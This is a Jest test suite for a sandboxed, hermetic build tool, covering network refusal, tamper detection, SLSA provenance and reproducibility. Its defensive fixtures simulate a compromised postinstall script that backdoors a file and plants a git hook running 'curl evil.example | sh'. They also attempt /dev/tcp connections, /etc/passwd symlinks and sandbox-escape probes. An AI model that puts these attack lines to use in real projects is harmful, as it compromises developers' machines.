/**
 * The hermetic build, end to end through the package API with real bubblewrap, git and files:
 * network refused, source writes reported, digests equal sha256sum, provenance valid and complete,
 * reproducibility caught, hangs stopped, a missing sandbox explained.
 */
import { execFileSync, spawnSync } from 'node:child_process';
import { copyFileSync, existsSync, linkSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import { createServer as createNetServer } from 'node:net';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { build, detectSandbox, type BuildOptions } from '@secure-factory/isolated-build';
import { BUILD_TYPE, MemoryLogger, validateStatement, type ProvenancePredicate, type Statement } from '@secure-factory/core';
import { LOCKED, makeRepo, sha512Hex, toolDir } from './support.js';

const HAVE_BWRAP = spawnSync('bwrap', ['--ro-bind', '/', '/', '--unshare-net', 'true']).status === 0;
const describeBwrap = HAVE_BWRAP ? describe : describe.skip;
if (!HAVE_BWRAP) console.warn('SKIPPED: bubblewrap is not usable here (sudo apt-get install -y bubblewrap)');

function options(source: string, command: string, extra: Partial<BuildOptions> = {}): BuildOptions {
  return {
    source,
    command: ['/bin/sh', '-c', command],
    outputs: ['**'],
    evidence: mkdtempSync(path.join(tmpdir(), 'sf-evidence-')),
    network: 'none',
    reproducible: false,
    timeoutMs: 60_000,
    env: [],
    logger: new MemoryLogger(),
    hostEnv: { PATH: process.env.PATH ?? '/usr/bin:/bin' },
    onOutput: () => undefined,
    ...extra,
  };
}

function readStatement(file: string): Statement<ProvenancePredicate> {
  return JSON.parse(readFileSync(file, 'utf8')) as Statement<ProvenancePredicate>;
}

// A non-loopback address that is never sent real traffic: inside the sandbox there is no route at all.
const REACH_OUT = 'timeout 1 bash -c "exec 3<>/dev/tcp/10.255.255.1/9"';

describeBwrap('hermetic build: isolation', () => {
  it('fails a build that reaches for the network, with the reason', async () => {
    const repo = makeRepo();
    const r = await build(options(repo.dir, `echo start > "$SECURE_FACTORY_OUT/a"; ${REACH_OUT}`));
    expect(r.passed).toBe(false);
    expect(r.isolation.tool).toBe('bubblewrap');
    const net = r.findings.find((f) => f.rule === 'build/network-denied');
    expect(net?.blocking).toBe(true);
    expect(net?.message).toContain('Network is unreachable');
    expect(r.provenancePath).toBeUndefined();
  });

  it('gives the build a working loopback and nothing else', async () => {
    const repo = makeRepo();
    const script = [
      'ip -o link | cut -d: -f2 | tr -d " " > "$SECURE_FACTORY_OUT/links"',
      `node -e "const s=require('net').createServer(c=>c.end('pong')).listen(0,'127.0.0.1',()=>require('net').connect(s.address().port,'127.0.0.1').on('data',d=>{require('fs').writeFileSync(process.env.SECURE_FACTORY_OUT+'/loopback',d);process.exit(0)}))"`,
    ].join('; ');
    const r = await build(options(repo.dir, script));
    expect(r.findings.filter((f) => f.blocking)).toEqual([]);
    expect(readFileSync(path.join(r.outputDir, 'links'), 'utf8').trim()).toBe('lo');
    expect(readFileSync(path.join(r.outputDir, 'loopback'), 'utf8')).toBe('pong');
  });

  it('lets the build write into its workspace, reports a rewritten tracked file, and never touches the checkout', async () => {
    const repo = makeRepo();
    const r = await build(
      options(repo.dir, 'mkdir -p dist && cp input.txt dist/a && echo tampered > /src/input.txt', { outputs: ['dist/**'] }),
    );
    expect(r.passed).toBe(false);
    expect(r.subjects.map((s) => s.name)).toEqual(['dist/a']);
    const w = r.findings.find((f) => f.rule === 'build/source-modified');
    expect(w?.message).toContain('input.txt');
    expect(w?.properties).toMatchObject({ phase: 'build', changed: ['input.txt'] });
    expect(readFileSync(path.join(repo.dir, 'input.txt'), 'utf8')).toBe('hello from the source\n');
    expect(existsSync(path.join(repo.dir, 'dist'))).toBe(false);
    expect(r.integrity?.unchanged).toBe(false);
  });

  it('a build regenerating committed copies of its declared outputs (a tracked dist/) is reported, not refused; anything else it rewrites is', async () => {
    const repo = makeRepo({ 'dist/a.js': 'old build\n', 'src/a.js': 'source\n' });
    const regenerate = 'mkdir -p dist && echo new build > dist/a.js';
    const declared = await build(options(repo.dir, regenerate, { outputs: ['dist/**'] }));
    expect(declared.findings.filter((f) => f.blocking)).toEqual([]);
    expect(declared.passed).toBe(true);
    expect(declared.findings.find((f) => f.rule === 'build/regenerated-output')).toMatchObject({
      blocking: false,
      properties: { phase: 'build', regenerated: ['dist/a.js'] },
    });
    expect(declared.subjects.map((s) => s.name)).toEqual(['dist/a.js']);
    // The catch-all default declares nothing: the same rewrite is refused, and the fix names --outputs.
    const undeclared = await build(options(repo.dir, regenerate, { outputs: ['**'] }));
    const refused = undeclared.findings.find((f) => f.rule === 'build/source-modified');
    expect(refused?.blocking).toBe(true);
    expect(refused?.help).toContain('--outputs');
    // A source file is never an output, even when it is rewritten next to one.
    const tamper = await build(options(repo.dir, `${regenerate} && echo evil > src/a.js`, { outputs: ['dist/**'] }));
    expect(tamper.findings.find((f) => f.rule === 'build/source-modified')?.properties).toMatchObject({ changed: ['src/a.js'] });
    expect(tamper.passed).toBe(false);
  });

  it('reports source changes seen by the integrity watch (changed while the build ran), listing the paths', async () => {
    const repo = makeRepo();
    // The build waits for the host to change the source: a deterministic stand-in for anything that
    // escapes the read-only mount.
    const cmd =
      'touch "$SECURE_FACTORY_OUT/started"; i=0; while [ ! -e "$SECURE_FACTORY_OUT/go" ] && [ $i -lt 600 ]; do sleep 0.05; i=$((i+1)); done; echo ok > "$SECURE_FACTORY_OUT/result"';
    const opts = options(repo.dir, cmd, { outputs: ['result'] });
    const running = build(opts);
    const out = path.join(repo.dir, '.secure-factory', 'out');
    while (!existsSync(path.join(out, 'started'))) await new Promise((res) => setTimeout(res, 20));
    writeFileSync(path.join(repo.dir, 'input.txt'), 'changed behind the build\n');
    writeFileSync(path.join(repo.dir, 'dropped.js'), 'evil()\n');
    writeFileSync(path.join(out, 'go'), '');
    const r = await running;
    const f = r.findings.find((x) => x.rule === 'build/source-modified');
    expect(f?.blocking).toBe(true);
    expect(f?.message).toContain('input.txt');
    expect(f?.message).toContain('dropped.js');
    expect(r.integrity?.host).toEqual({ changed: ['input.txt'], added: ['dropped.js'], removed: [] });
    const byproducts = readStatement(r.provenancePath as string).predicate.runDetails.byproducts ?? [];
    const integrity = JSON.parse(Buffer.from(byproducts.find((b) => b.name === 'integrity')?.content ?? '', 'base64').toString()) as {
      unchanged: boolean;
    };
    expect(integrity.unchanged).toBe(false);
  });

  it('reduces the environment to the allow-list and sets the reproducibility variables', async () => {
    const repo = makeRepo();
    const hostEnv = { PATH: process.env.PATH ?? '/usr/bin:/bin', ALLOWED_FLAG: 'yes', SECRET_TOKEN: 'hunter2', HOME: '/root' };
    const r = await build(
      options(repo.dir, 'env | sort > "$SECURE_FACTORY_OUT/env"; pwd > "$SECURE_FACTORY_OUT/pwd"', { hostEnv, env: ['ALLOWED_FLAG'] }),
    );
    expect(r.passed).toBe(true);
    const env = Object.fromEntries(
      readFileSync(path.join(r.outputDir, 'env'), 'utf8')
        .trim()
        .split('\n')
        .map((l) => [l.slice(0, l.indexOf('=')), l.slice(l.indexOf('=') + 1)]),
    );
    expect(env.ALLOWED_FLAG).toBe('yes');
    expect(env.SECRET_TOKEN).toBeUndefined();
    expect(env.HOME).toBe('/tmp/home');
    expect(env.TZ).toBe('UTC');
    expect(env.LC_ALL).toBe('C');
    expect(env.SOURCE_DATE_EPOCH).toBe(String(repo.commitTime));
    expect(env.SECURE_FACTORY_OUT).toBe('/out');
    expect(readFileSync(path.join(r.outputDir, 'pwd'), 'utf8').trim()).toBe('/src');
    // The provenance names the allowed variable with a digest of its value, never the value.
    const text = readFileSync(r.provenancePath as string, 'utf8');
    expect(text).toContain('ALLOWED_FLAG');
    expect(text).not.toContain('hunter2');
    expect(text).not.toContain('SECRET_TOKEN');
  });

  it('sees the host toolchains in PATH order, read-only, even a Node unpacked under the host /tmp, and records their versions', async () => {
    const repo = makeRepo({ 'package.json': JSON.stringify({ name: 'fixture', version: '1.0.0' }) });
    const nodeDir = path.join(mkdtempSync(path.join(tmpdir(), 'sf-node-')), 'bin');
    mkdirSync(nodeDir);
    try {
      linkSync(process.execPath, path.join(nodeDir, 'node'));
    } catch {
      copyFileSync(process.execPath, path.join(nodeDir, 'node'));
    }
    const hostEnv = { PATH: `${nodeDir}:/usr/bin:/bin` };
    const r = await build(
      options(
        repo.dir,
        `node --version > "$SECURE_FACTORY_OUT/v"; (echo x > ${nodeDir}/x) 2>/dev/null || echo ro > "$SECURE_FACTORY_OUT/w"`,
        { hostEnv },
      ),
    );
    expect(r.passed).toBe(true);
    expect(readFileSync(path.join(r.outputDir, 'v'), 'utf8').trim()).toBe(process.version);
    expect(readFileSync(path.join(r.outputDir, 'w'), 'utf8').trim()).toBe('ro');
    expect(r.toolchains?.find((t) => t.name === 'node')).toMatchObject({ version: process.version, path: path.join(nodeDir, 'node') });
  });

  it('names a missing tool and the PATH the sandbox searched', async () => {
    const repo = makeRepo();
    const r = await build(options(repo.dir, 'no-such-tool-xyz --version'));
    expect(r.failure).toMatchObject({ phase: 'build', exitCode: 127 });
    const f = r.findings.find((x) => x.rule === 'build/tool-missing');
    expect(f?.message).toBe(
      `the build command needs \`no-such-tool-xyz\`, which is not on the sandbox's PATH (${process.env.PATH ?? '/usr/bin:/bin'})`,
    );
  });

  it('a missing tool the project declares as a dependency is blamed on the missing fetch, not on PATH', async () => {
    const repo = makeRepo({ 'package.json': JSON.stringify({ name: 'fixture', version: '1.0.0', devDependencies: { gulp: '^4.0.2' } }) });
    const r = await build(options(repo.dir, 'gulp clear'));
    expect(r.failure).toMatchObject({ phase: 'build', exitCode: 127 });
    const f = r.findings.find((x) => x.rule === 'build/dependencies-missing');
    expect(f?.message).toContain("`gulp` from the project's dependencies (package.json devDependencies), but nothing installed them");
    expect(f?.help).toContain("--fetch 'npm ci'");
    expect(r.findings.find((x) => x.rule === 'build/tool-missing')).toBeUndefined();
  });

  it('stops a build that hangs, killing the whole process tree', async () => {
    const repo = makeRepo();
    const marker = `sf-hang-${process.pid}-${Date.now()}`;
    const r = await build(options(repo.dir, `sh -c 'exec -a ${marker} sleep 600' & sleep 600`, { timeoutMs: 1500 }));
    expect(r.passed).toBe(false);
    expect(r.findings.map((f) => f.rule)).toContain('build/timeout');
    expect(spawnSync('pgrep', ['-f', marker]).status).toBe(1);
  });
});

describeBwrap('hermetic build: subjects and provenance', () => {
  it('digests every output exactly as sha256sum does, with relative normalised names', async () => {
    const repo = makeRepo();
    const cmd = [
      'mkdir -p "$SECURE_FACTORY_OUT/dist/nested" "$SECURE_FACTORY_OUT/other"',
      'cp input.txt "$SECURE_FACTORY_OUT/dist/a.txt"',
      'head -c 3000000 /dev/urandom > "$SECURE_FACTORY_OUT/dist/nested/big.bin"',
      ': > "$SECURE_FACTORY_OUT/dist/empty"',
      'echo hidden > "$SECURE_FACTORY_OUT/dist/.hidden"',
      'echo not-selected > "$SECURE_FACTORY_OUT/other/x"',
      'ln -s a.txt "$SECURE_FACTORY_OUT/dist/link.txt"',
    ].join(' && ');
    const r = await build(options(repo.dir, cmd, { outputs: ['dist/**'] }));
    expect(r.passed).toBe(true);
    const expected = execFileSync('sh', ['-c', 'cd "$0" && find dist -type f -o -type l | sort | xargs sha256sum -b', r.outputDir], {
      encoding: 'utf8',
    })
      .trim()
      .split('\n')
      .map((l) => ({ name: l.slice(66).replace(/^\*/, ''), digest: { sha256: l.slice(0, 64) } }));
    expect(r.subjects).toEqual(expected);
    expect(r.subjects.map((s) => s.name)).toEqual(['dist/.hidden', 'dist/a.txt', 'dist/empty', 'dist/link.txt', 'dist/nested/big.bin']);
  });

  it('refuses an output symlink that leaves the output folder', async () => {
    const repo = makeRepo();
    await expect(build(options(repo.dir, 'ln -s /etc/passwd "$SECURE_FACTORY_OUT/passwd"'))).rejects.toThrow(
      /symlink that leaves the output folder/,
    );
  });

  it('refuses output globs that leave the folder or match nothing', async () => {
    const repo = makeRepo();
    await expect(build(options(repo.dir, 'true', { outputs: ['../**'] }))).rejects.toThrow(/leaves the output folder/);
    await expect(build(options(repo.dir, 'true', { outputs: ['/etc/*'] }))).rejects.toThrow(/is absolute/);
    await expect(build(options(repo.dir, 'echo a > "$SECURE_FACTORY_OUT/a.txt"', { outputs: ['*.tgz'] }))).rejects.toThrow(
      /"\*\.tgz" matched no file/,
    );
  });

  it('writes SLSA provenance v1 that validates and lists the commit and every lockfile package', async () => {
    const repo = makeRepo();
    const r = await build(options(repo.dir, 'cp input.txt "$SECURE_FACTORY_OUT/out.txt"', { outputs: ['out.txt'] }));
    expect(r.passed).toBe(true);
    const st = readStatement(r.provenancePath as string);
    expect(validateStatement(st)).toEqual([]);
    expect(st.predicateType).toBe('https://slsa.dev/provenance/v1');
    expect(st.subject).toEqual(r.subjects);
    const def = st.predicate.buildDefinition;
    expect(def.buildType).toBe(BUILD_TYPE);
    expect(def.externalParameters.command).toEqual(['/bin/sh', '-c', 'cp input.txt "$SECURE_FACTORY_OUT/out.txt"']);
    expect(def.externalParameters.network).toBe('none');
    expect(def.externalParameters.outputs).toEqual(['out.txt']);
    const deps = def.resolvedDependencies ?? [];
    expect(deps[0]?.digest).toEqual({ gitCommit: repo.head });
    for (const p of LOCKED) {
      const d = deps.find((x) => x.name === `${p.name}@${p.version}`);
      expect(d?.digest?.sha512).toBe(sha512Hex(`${p.name}@${p.version}`));
      expect(d?.uri).toMatch(/^pkg:npm\//);
    }
    expect(deps.find((x) => x.name === 'package-lock.json')?.digest?.sha256).toMatch(/^[0-9a-f]{64}$/);
    expect(st.predicate.runDetails.builder.id).toBe('https://github.com/secure-factory/secure-factory/local-builder');
    expect((def.internalParameters?.isolation as { tool: string }).tool).toBe('bubblewrap');
  });

  it('takes the builder id, invocation and workflow inputs from the GitHub run', async () => {
    const repo = makeRepo({
      '.github/workflows/release.yml': [
        'jobs:',
        '  b:',
        '    container: { image: "node@sha256:' + 'ab'.repeat(32) + '" }',
        '    steps:',
        '      - uses: actions/checkout@' + '1'.repeat(40) + ' # v4',
        '      - uses: acme/tools/setup@' + '2'.repeat(40),
        '      - uses: actions/cache@v4',
      ].join('\n'),
    });
    const event = path.join(mkdtempSync(path.join(tmpdir(), 'sf-event-')), 'event.json');
    writeFileSync(event, JSON.stringify({ inputs: { environment: 'production', dry: false } }));
    const hostEnv = {
      PATH: process.env.PATH ?? '/usr/bin:/bin',
      GITHUB_ACTIONS: 'true',
      GITHUB_REPOSITORY: 'acme/app',
      GITHUB_SERVER_URL: 'https://github.com',
      GITHUB_WORKFLOW_REF: 'acme/app/.github/workflows/release.yml@refs/tags/v1.2.0',
      GITHUB_WORKFLOW_SHA: repo.head,
      GITHUB_RUN_ID: '8812',
      GITHUB_RUN_ATTEMPT: '2',
      GITHUB_EVENT_NAME: 'workflow_dispatch',
      GITHUB_EVENT_PATH: event,
    };
    const r = await build(options(repo.dir, 'echo a > "$SECURE_FACTORY_OUT/a"', { hostEnv }));
    const p = readStatement(r.provenancePath as string).predicate;
    expect(p.runDetails.builder.id).toBe('https://github.com/acme/app/.github/workflows/release.yml@refs/tags/v1.2.0');
    expect(p.runDetails.metadata?.invocationId).toBe('https://github.com/acme/app/actions/runs/8812/attempts/2');
    expect(p.buildDefinition.externalParameters.inputs).toEqual({ environment: 'production', dry: false });
    const deps = p.buildDefinition.resolvedDependencies ?? [];
    expect(deps[0]?.uri).toBe(`git+https://github.com/acme/app@${repo.head}`);
    expect(deps.find((d) => d.name === 'actions/checkout')?.digest).toEqual({ gitCommit: '1'.repeat(40) });
    expect(deps.find((d) => d.name === 'acme/tools/setup')?.uri).toBe(`git+https://github.com/acme/tools@${'2'.repeat(40)}`);
    expect(deps.find((d) => d.name === 'node')?.digest).toEqual({ sha256: 'ab'.repeat(32) });
    expect(deps.some((d) => d.name === 'actions/cache')).toBe(false);
  });

  it('writes a test-result statement from a test command run in the same sandbox', async () => {
    const repo = makeRepo();
    const pass = await build(
      options(repo.dir, 'cp input.txt "$SECURE_FACTORY_OUT/o"', {
        testCommand: 'grep -q hello /out/o && ! touch /out/o 2>/dev/null && ! ' + REACH_OUT.replace('timeout 1 ', 'timeout 1 '),
      }),
    );
    expect(pass.passed).toBe(true);
    const t = JSON.parse(readFileSync(pass.testResultPath as string, 'utf8')) as Statement<{ result: string }>;
    expect(validateStatement(t)).toEqual([]);
    expect(t.predicateType).toBe('https://in-toto.io/attestation/test-result/v0.1');
    expect(t.predicate.result).toBe('PASSED');
    expect(t.subject).toEqual(pass.subjects);
    const fail = await build(options(repo.dir, 'cp input.txt "$SECURE_FACTORY_OUT/o"', { testCommand: 'exit 3' }));
    expect(fail.passed).toBe(false);
    expect(fail.findings.map((f) => f.rule)).toContain('build/tests-failed');
    expect((JSON.parse(readFileSync(fail.testResultPath as string, 'utf8')) as Statement<{ result: string }>).predicate.result).toBe(
      'FAILED',
    );
  });
});

describeBwrap('hermetic build: reproducibility', () => {
  it('catches a timestamp in the output and says where the first difference is', async () => {
    const repo = makeRepo();
    const r = await build(
      options(repo.dir, 'echo "built at $(date +%s%N)" > "$SECURE_FACTORY_OUT/stamp"; cp input.txt "$SECURE_FACTORY_OUT/same"', {
        reproducible: true,
      }),
    );
    expect(r.reproducible).toBe(false);
    expect(r.passed).toBe(false);
    expect(r.reproducibility?.differences.map((d) => d.name)).toEqual(['stamp']);
    expect(r.reproducibility?.differences[0]?.firstDifferenceAt).toBeGreaterThanOrEqual('built at '.length);
    expect(r.findings.find((f) => f.rule === 'build/not-reproducible')?.message).toMatch(/stamp \(first difference at byte \d+\)/);
  });

  it('passes a deterministic build (SOURCE_DATE_EPOCH instead of the clock)', async () => {
    const repo = makeRepo();
    const r = await build(
      options(
        repo.dir,
        'echo "built at $SOURCE_DATE_EPOCH" > "$SECURE_FACTORY_OUT/stamp"; tar --sort=name --mtime=@$SOURCE_DATE_EPOCH --owner=0 --group=0 --numeric-owner -cf "$SECURE_FACTORY_OUT/src.tar" input.txt package.json',
        { reproducible: true },
      ),
    );
    expect(r.reproducible).toBe(true);
    expect(r.passed).toBe(true);
    const byproducts = readStatement(r.provenancePath as string).predicate.runDetails.byproducts ?? [];
    expect(byproducts.map((b) => b.name)).toContain('reproducibility');
  });
});

describeBwrap('hermetic build: fetch phase', () => {
  let server: Server;
  let port = 0;
  beforeAll(async () => {
    server = createServer((_req, res) => res.end('material-bytes'));
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    port = (server.address() as AddressInfo).port;
  });
  afterAll(() => new Promise<void>((resolve) => server.close(() => resolve())));

  // curl takes the proxy from http_proxy, as npm, pip, cargo and go do.
  const fetch = (host: string, p: number): string => `mkdir -p vendor && curl -sSf -o vendor/m http://${host}:${p}/m`;

  it('fetch-only: the fetch reaches allowed hosts through the egress proxy, which records it; the build stays offline', async () => {
    const repo = makeRepo();
    const r = await build(
      options(
        repo.dir,
        `mkdir -p dist && cp vendor/m dist/m; curl -sS --max-time 2 http://127.0.0.1:${port}/late -o dist/late || echo build-offline > dist/note`,
        {
          network: 'fetch-only',
          networkAllow: [`127.0.0.1:${port}`],
          fetchCommand: fetch('127.0.0.1', port),
          outputs: ['dist/**'],
        },
      ),
    );
    expect(r.findings.filter((f) => f.blocking)).toEqual([]);
    expect(r.isolation.network).toEqual({ build: 'loopback-only', fetch: 'egress-proxy' });
    expect(readFileSync(path.join(r.outputDir, 'dist', 'm'), 'utf8')).toBe('material-bytes');
    expect(readFileSync(path.join(r.outputDir, 'dist', 'note'), 'utf8')).toBe('build-offline\n');
    expect(r.egress).toEqual([expect.objectContaining({ host: '127.0.0.1', port, allowed: true })]);
    expect(r.egress?.[0]?.bytesIn).toBeGreaterThanOrEqual('material-bytes'.length);
    const byproducts = readStatement(r.provenancePath as string).predicate.runDetails.byproducts ?? [];
    const egress = JSON.parse(Buffer.from(byproducts.find((b) => b.name === 'egress')?.content ?? '', 'base64').toString()) as unknown[];
    expect(egress).toHaveLength(1);
    // The host's own files were never written: node_modules, vendor and dist lived in the workspace.
    expect(existsSync(path.join(repo.dir, 'vendor'))).toBe(false);
  });

  it('fetch-only: a host that is neither a lockfile registry nor allowed is refused and named', async () => {
    const repo = makeRepo();
    const r = await build(
      options(repo.dir, 'true', { network: 'fetch-only', networkAllow: ['registry.example.org'], fetchCommand: fetch('127.0.0.1', port) }),
    );
    expect(r.passed).toBe(false);
    const refused = r.findings.find((f) => f.rule === 'build/egress-refused');
    expect(refused?.message).toContain(`127.0.0.1:${port}`);
    expect(r.egress?.[0]).toMatchObject({ host: '127.0.0.1', allowed: false });
    // No route around the proxy: a direct connection has no network at all.
    const direct = await build(
      options(repo.dir, 'true', { network: 'fetch-only', fetchCommand: `curl -sS --noproxy '*' --max-time 2 http://127.0.0.1:${port}/m` }),
    );
    expect(direct.findings.map((f) => f.rule)).toContain('build/fetch-failed');
    expect(direct.egress).toEqual([]);
  });

  it('none: the fetch phase is offline too, and the failure says how to allow it', async () => {
    const repo = makeRepo();
    const r = await build(options(repo.dir, 'true', { network: 'none', fetchCommand: `${fetch('127.0.0.1', port)} --noproxy '*'` }));
    expect(r.passed).toBe(false);
    expect(r.failure).toMatchObject({ phase: 'fetch', exitCode: 7 });
    expect(r.findings.map((f) => f.rule)).toEqual(expect.arrayContaining(['build/fetch-failed', 'build/fetch-offline']));
  });
});

describeBwrap('hermetic build: what the fetch and the build change is caught', () => {
  // A project whose npm install script backdoors a tracked file and drops a git hook, as a
  // compromised dependency's postinstall would; npm ci runs it in the fetch phase.
  const tamper = [
    "const fs = require('fs');",
    "fs.appendFileSync('input.txt', 'backdoor()\\n');",
    "fs.writeFileSync('.git/hooks/post-checkout', '#!/bin/sh\\ncurl evil.example | sh\\n', { mode: 0o755 });",
  ].join(' ');
  const project = {
    'package.json': JSON.stringify({ name: 'fixture', version: '1.0.0', scripts: { postinstall: `node -e "${tamper}"` } }),
    'package-lock.json': JSON.stringify({
      name: 'fixture',
      version: '1.0.0',
      lockfileVersion: 3,
      requires: true,
      packages: { '': { name: 'fixture', version: '1.0.0' } },
    }),
  };

  it('a fetch-time script that rewrites a tracked file and drops a .git/hooks file: both blocking, named with the phase, in the provenance', async () => {
    const repo = makeRepo(project);
    const r = await build(options(repo.dir, 'mkdir -p dist && cp input.txt dist/', { fetchCommand: 'npm ci', outputs: ['dist/**'] }));
    expect(r.passed).toBe(false);
    const modified = r.findings.find((f) => f.rule === 'build/source-modified');
    expect(modified?.message).toMatch(/the fetch phase changed the source of commit [0-9a-f]{12}: changed input\.txt/);
    const hook = r.findings.find((f) => f.rule === 'build/git-modified');
    expect(hook?.message).toBe('the fetch phase wrote under .git/: .git/hooks/post-checkout');
    expect(r.integrity?.phases.find((p) => p.phase === 'fetch')).toMatchObject({
      changed: ['input.txt'],
      git: ['.git/hooks/post-checkout'],
    });
    // The checkout itself was never written.
    expect(readFileSync(path.join(repo.dir, 'input.txt'), 'utf8')).toBe('hello from the source\n');
    expect(existsSync(path.join(repo.dir, '.git', 'hooks', 'post-checkout'))).toBe(false);
    const integrity = JSON.parse(
      Buffer.from(
        readStatement(r.provenancePath as string).predicate.runDetails.byproducts?.find((b) => b.name === 'integrity')?.content ?? '',
        'base64',
      ).toString(),
    ) as { unchanged: boolean; git: string[] };
    expect(integrity).toMatchObject({ unchanged: false, git: ['.git/hooks/post-checkout'] });
  });

  it('a deleted tracked file and a tracked file replaced by a symlink are caught; untracked outputs are fine', async () => {
    const repo = makeRepo({ 'src/a.js': 'a\n', 'src/b.js': 'b\n' });
    const r = await build(
      options(repo.dir, 'rm src/a.js && rm src/b.js && ln -s /etc/passwd src/b.js && mkdir -p dist && echo ok > dist/x', {
        outputs: ['dist/**'],
      }),
    );
    expect(r.integrity?.removed).toEqual(['src/a.js']);
    expect(r.integrity?.changed).toEqual(['src/b.js']);
    expect(r.subjects.map((s) => s.name)).toEqual(['dist/x']);
  });

  it('a committed .secure-factory symlink is refused before anything runs or is written', async () => {
    const repo = makeRepo();
    const target = mkdtempSync(path.join(tmpdir(), 'sf-link-target-'));
    symlinkSync(target, path.join(repo.dir, '.secure-factory'));
    repo.git('add', '.secure-factory');
    repo.git('commit', '-q', '-m', 'link');
    const marker = path.join(target, 'ran');
    await expect(build(options(repo.dir, `touch ${marker}`))).rejects.toThrow(
      /\.secure-factory is a symbolic link .*will not write through it/,
    );
    const outside = mkdtempSync(path.join(tmpdir(), 'sf-out-'));
    await expect(build(options(repo.dir, `touch ${marker}`, { outputDir: outside }))).rejects.toThrow(
      /the commit holds \.secure-factory \(a symbolic link\)/,
    );
    expect(readdirSync(target)).toEqual([]);
  });
});

describe('hermetic build: no sandbox, no build', () => {
  it('explains a missing sandbox tool with the install command, and runs nothing', async () => {
    const repo = makeRepo();
    const bin = toolDir(['git', 'sh']);
    const marker = path.join(repo.dir, 'ran');
    await expect(build(options(repo.dir, `touch ${marker}`, { hostEnv: { PATH: bin } }))).rejects.toThrow(/apt-get install -y bubblewrap/);
    expect(existsSync(marker)).toBe(false);
  });

  it('detects the AppArmor restriction of ubuntu-24.04 runners and gives the exact fix', () => {
    const dir = mkdtempSync(path.join(tmpdir(), 'sf-apparmor-'));
    const file = path.join(dir, 'apparmor_restrict_unprivileged_userns');
    writeFileSync(file, '1\n');
    expect(() => detectSandbox({ apparmorFile: file, isRoot: false, allowSudo: false })).toThrow(/AppArmor/);
    try {
      detectSandbox({ apparmorFile: file, isRoot: false, allowSudo: false });
    } catch (e: unknown) {
      expect((e as { hint?: string }).hint).toContain('sudo sysctl -w kernel.apparmor_restrict_unprivileged_userns=0');
    }
    if (HAVE_BWRAP) expect(detectSandbox({ apparmorFile: file, isRoot: true }).apparmor).toBe('restricted-but-root');
  });

  const HAVE_UNSHARE =
    spawnSync('unshare', ['--user', '--map-root-user', '--net', '--mount', '--pid', '--fork', '--kill-child', 'true']).status === 0;
  (HAVE_UNSHARE ? it : it.skip)(
    'falls back to unshare when bwrap is missing, says so in the provenance, and still refuses the network',
    async () => {
      const repo = makeRepo();
      const bin = toolDir(['git', 'sh', 'bash', 'unshare', 'setpriv', 'chroot', 'timeout', 'cp', 'cat', 'env']);
      const ok = await build(options(repo.dir, 'cp input.txt "$SECURE_FACTORY_OUT/o"', { hostEnv: { PATH: bin } }));
      expect(ok.isolation.tool).toBe('unshare');
      expect(ok.passed).toBe(true);
      const isolation = readStatement(ok.provenancePath as string).predicate.buildDefinition.internalParameters?.isolation as {
        tool: string;
        note: string;
      };
      expect(isolation.tool).toBe('unshare');
      expect(isolation.note).toMatch(/bubblewrap was not installed/);
      const net = await build(options(repo.dir, REACH_OUT, { hostEnv: { PATH: bin } }));
      expect(net.findings.find((f) => f.rule === 'build/network-denied')?.message).toContain('Network is unreachable');
    },
  );

  // What a build must not do, under either kind of sandbox: write outside its workspace, reach a host
  // unix socket (a path one or an abstract one), or read another process's command line.
  const kinds: [string, () => Record<string, string>][] = [
    ['bubblewrap', () => ({ PATH: process.env.PATH ?? '/usr/bin:/bin' })],
    ['unshare', () => ({ PATH: toolDir(['git', 'sh', 'unshare', 'setpriv', 'chroot', 'node', 'sleep', 'touch']) })],
  ];
  for (const [kind, hostEnv] of kinds) {
    (kind === 'bubblewrap' ? (HAVE_BWRAP ? it : it.skip) : HAVE_UNSHARE ? it : it.skip)(
      `${kind}: the build cannot escape its sandbox`,
      async () => {
        const repo = makeRepo();
        const sockDir = mkdtempSync(path.join(tmpdir(), 'sf-sock-'));
        const sockPath = path.join(sockDir, 'host.sock');
        const abstract = `\0sf-escape-${process.pid}-${kind}`;
        const servers = [createNetServer((c) => c.end('reached')), createNetServer((c) => c.end('reached'))];
        await Promise.all(servers.map((srv, i) => new Promise<void>((resolve) => srv.listen(i === 0 ? sockPath : abstract, resolve))));
        const marker = path.join(sockDir, 'escaped');
        const probe = `const net=require('net');const fs=require('fs');const out=process.env.SECURE_FACTORY_OUT;
for (const [n,p] of [['path',${JSON.stringify(sockPath)}],['abstract',${JSON.stringify(abstract)}]]) {
  const c=net.connect(p);c.on('data',()=>fs.appendFileSync(out+'/reached',n+'\\n'));c.on('error',()=>fs.appendFileSync(out+'/refused',n+'\\n'));
}
let seen='';for (const d of fs.readdirSync('/proc')) { if (/^\\d+$/.test(d)) { try { seen+=fs.readFileSync('/proc/'+d+'/cmdline','utf8').split('\\0').join(' ')+'\\n'; } catch {} } }
fs.writeFileSync(out+'/cmdlines',seen);
try { fs.writeFileSync(${JSON.stringify(marker)},'x'); } catch (e) { fs.writeFileSync(out+'/write',e.code); }
try { fs.writeFileSync('/etc/sf-escape','x'); } catch (e) { fs.appendFileSync(out+'/write',' '+e.code); }`;
        try {
          const r = await build(
            options(repo.dir, `node -e "$PROBE"; sleep 1; touch "$SECURE_FACTORY_OUT/reached" "$SECURE_FACTORY_OUT/refused"`, {
              hostEnv: { ...hostEnv(), PROBE: probe },
              env: ['PROBE'],
            }),
          );
          expect(r.isolation.tool).toBe(kind);
          expect(r.passed).toBe(true);
          const read = (n: string): string => readFileSync(path.join(r.outputDir, n), 'utf8');
          expect(read('reached')).toBe('');
          expect(read('refused').split('\n').filter(Boolean).sort()).toEqual(['abstract', 'path']);
          expect(read('write')).toMatch(/^(ENOENT|EROFS|EACCES) (ENOENT|EROFS|EACCES)$/);
          expect(existsSync(marker)).toBe(false);
          expect(existsSync('/etc/sf-escape')).toBe(false);
          // Only the sandbox's own processes: never the test runner's command line.
          expect(read('cmdlines')).toMatch(/node -e/);
          expect(read('cmdlines')).not.toMatch(/jest|node_modules/);
        } finally {
          servers.forEach((srv) => srv.close());
        }
      },
    );
  }
});
